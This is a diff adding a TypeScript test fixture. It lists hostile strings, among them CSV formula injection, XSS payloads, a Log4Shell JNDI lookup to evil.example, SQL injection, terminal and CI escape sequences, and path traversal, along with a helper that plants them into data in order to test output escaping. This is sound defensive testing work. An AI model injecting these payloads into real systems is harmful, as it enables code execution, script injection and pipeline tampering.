@@ -1,0 +1,145 @@
+/**
+ * What somebody might name a resource: strings that mean something to a spreadsheet, a browser, a Markdown renderer, a
+ * terminal, a CI runner or a parser.
+ */
+export const hostile: readonly string[] = [
+  // spreadsheets
+  '=1+1',
+  '=HYPERLINK("https://evil.example","click")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(1,2)',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '"quoted","cells"',
+  "';DROP TABLE findings;--",
+  // browsers
+  '<script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '" onmouseover="alert(1)',
+  "' onfocus='alert(1)",
+  '<!-- comment',
+  '-->',
+  '<![CDATA[x]]>',
+  ']]>',
+  '&lt;b&gt;&#60;b&#62;&amp;',
+  'javascript:alert(1)',
+  '<style>*{display:none}</style>',
+  '<iframe src="https://evil.example">',
+  '{{constructor.constructor("alert(1)")()}}',
+  '${jndi:ldap://evil.example/a}',
+  // Markdown
+  '</details>',
+  '</summary></details><h1>all is well</h1>',
+  '<details open>',
+  '`code`',
+  '```\nfence',
+  '``',
+  '`',
+  '| a | b |',
+  '||',
+  '\\|',
+  '\\',
+  '\n\n# heading\n',
+  '\n- item',
+  '\n\n---\n\n',
+  '\n    indented code',
+  '# heading',
+  '> quote',
+  '1. one',
+  '[click](https://evil.example)',
+  '[click](javascript:alert(1))',
+  '![image](https://evil.example/x.png)',
+  '[ref]: https://evil.example',
+  '[^1]',
+  '[x] done',
+  '<https://evil.example>',
+  'https://evil.example/a?b=c#d',
+  'www.evil.example',
+  'someone@evil.example',
+  '@octocat please',
+  '@acme/security',
+  '#1',
+  'GH-1',
+  'acme/repo#1',
+  ':tada:',
+  '**bold** __bold__ *em* _em_ ~~gone~~',
+  '$x^2$ $$y$$',
+  '$`x`$',
+  '&nbsp;&copy;&#0;',
+  // terminals
+  '\x1b[2J\x1b[H',
+  '\x1b[31mred\x1b[0m',
+  '\x1b]8;;https://evil.example\x07link\x1b]8;;\x07',
+  '\x1b]0;title\x07',
+  '\x1b]52;c;ZXZpbA==\x07',
+  '\x9b31mred',
+  '\x07\x08\x08\x08\x7f',
+  'over\rwritten',
+  'line\u2028separator\u2029',
+  '\u202egpj.exe',
+  '\u2066isolate\u2069',
+  '\u200bzero\u200cwidth\u200d\ufeff',
+  '\u{e0041}\u{e0042}tag',
+  'e\u0301\u0301\u0301\u0301\u0301\u0301',
+  '界面の名前',
+  '👩‍👩‍👧',
+  // CI runners
+  '::error::pwned',
+  ' ::add-mask::x',
+  '\r\n::error file=a,line=1::pwned',
+  '\n::set-output name=x::y',
+  '\n::stop-commands::token',
+  '##[error]pwned',
+  '###[group]x',
+  '##vso[task.setvariable variable=x]y',
+  "##teamcity[testFailed name='x']",
+  'section_start:1:x\r\x1b[0K',
+  // parsers and paths
+  '\0',
+  'a\0b',
+  '\ud800',
+  '\udc00lone',
+  'half \ud83d',
+  '__proto__',
+  'constructor',
+  '../../etc/passwd',
+  '..',
+  '/etc/passwd',
+  'C:\\Windows\\system32',
+  'file:///etc/passwd',
+  '%2e%2e%2f',
+  '%',
+  '{0} {1}',
+  '"',
+  "'",
+  ' ',
+  'null',
+  'x'.repeat(10_000),
+  '\x1b'.repeat(10_000),
+  '|`<@'.repeat(2_500),
+  '(a'.repeat(5_000),
+];
+
+/** Every string of a value but those of a fixed list, in place and in the same way everywhere. */
+export function plant<T>(value: T, fixed: ReadonlySet<string>, change: (text: string) => string): T;
+export function plant(value: unknown, fixed: ReadonlySet<string>, change: (text: string) => string): unknown {
+  const walk = (inner: unknown, openNames: boolean): unknown => {
+    if (typeof inner === 'string') return fixed.has(inner) || /^[0-9a-f]{32}$/.test(inner) ? inner : change(inner);
+    if (Array.isArray(inner)) return inner.map((element) => walk(element, openNames));
+    if (typeof inner !== 'object' || inner === null) return inner;
+    return Object.fromEntries(
+      Object.entries(inner).map(([name, element]: [string, unknown]) => [
+        openNames ? change(name) : name,
+        name === 'references'
+          ? element
+          : walk(element, openNames || name === 'tags' || name === 'value' || name === 'params'),
+      ]),
+    );
+  };
+  return walk(value, false);
+}
